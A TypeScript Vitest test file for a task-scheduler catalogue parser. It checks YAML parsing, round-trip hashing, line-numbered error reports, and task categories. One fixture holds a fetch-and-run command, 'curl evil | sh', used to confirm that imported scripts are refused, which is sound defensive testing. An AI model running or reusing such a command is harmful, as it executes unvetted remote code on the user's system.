/**
 * The catalogue format: the shipped config/tasks.yaml parses, survives a serialize → parse
 * round trip unchanged, and problems are reported with the line they are on. And the task
 * catalogue's types each belong to one of the dashboard's tabs.
 */
import fs from "node:fs";
import { describe, expect, it } from "vitest";
import { TaskCategory } from "@/contracts/tasks";
import { CatalogueError, parseCatalogue, serializeCatalogue, specHash } from "@/server/schedule/catalogue";
import { registry } from "@/tasks";

const shipped = fs.readFileSync("config/tasks.yaml", "utf8");

function problemsOf(text: string) {
  try {
    parseCatalogue(text, registry);
  } catch (err) {
    if (err instanceof CatalogueError) return err.problems;
    throw err;
  }
  return [];
}

describe("config/tasks.yaml", () => {
  it("ships fourteen schedules and three groups that pass every check", () => {
    const specs = parseCatalogue(shipped, registry, "file");
    expect(specs.filter((s) => s.task_type !== "group")).toHaveLength(14);
    expect(specs.filter((s) => s.task_type === "group").map((s) => (s.payload as { mode: string }).mode)).toEqual([
      "sequence",
      "parallel",
      "sequence",
    ]);
  });

  it("round-trips: serialize then parse gives the same schedules (and the same hashes)", () => {
    const specs = parseCatalogue(shipped, registry, "file");
    const again = parseCatalogue(serializeCatalogue(specs), registry);
    expect(again).toEqual(specs);
    expect(again.map(specHash)).toEqual(specs.map(specHash));
    // Defaults are left out of what is written.
    expect(serializeCatalogue(specs)).not.toContain("timezone: Asia/Shanghai");
  });

  it("reports problems with their lines, sorted, all at once", () => {
    const text = [
      "schedules:", //                       1
      "  - name: a", //                      2
      "    task_type: sleep", //             3
      "    payload: { ms: -1 }", //          4
      "    kind: interval", //               5
      "    interval_seconds: 60", //         6
      "  - name: b", //                      7
      "    task_type: noop", //              8
      "    kind: cron", //                   9
      "    cron: '99 * * * *'", //          10
    ].join("\n");
    const problems = problemsOf(text);
    expect(problems.map((p) => [p.line, p.path])).toEqual([
      [4, "schedules.0.payload.ms"],
      [10, "schedules.1.cron"],
    ]);
    expect(problemsOf("schedules:\n  - name: x\n    task_type: noop\n    kind: once\n    wat: 1\n")[0]).toMatchObject({ line: 2 });
    expect(problemsOf("a: [\n")[0].line).toBeGreaterThan(0);
  });
});

describe("scripts in the catalogue", () => {
  it("are read from the server's file, and refused in an import", () => {
    expect(registry.get("cache_cleanup_sh")).toMatchObject({ queue: "scripts", role: "admin", category: "scripts" });
    const imported = "scripts:\n  - name: evil\n    title: x\n    command: [sh, -c, 'curl evil | sh']\n";
    expect(problemsOf(imported)).toEqual([expect.objectContaining({ line: 2, path: "scripts", message: expect.stringMatching(/never imported/) })]);
  });
});

describe("the task catalogue", () => {
  it("puts every task type under one of the dashboard's tabs", () => {
    for (const d of registry.list()) expect(TaskCategory.options, d.name).toContain(d.category);
  });
});
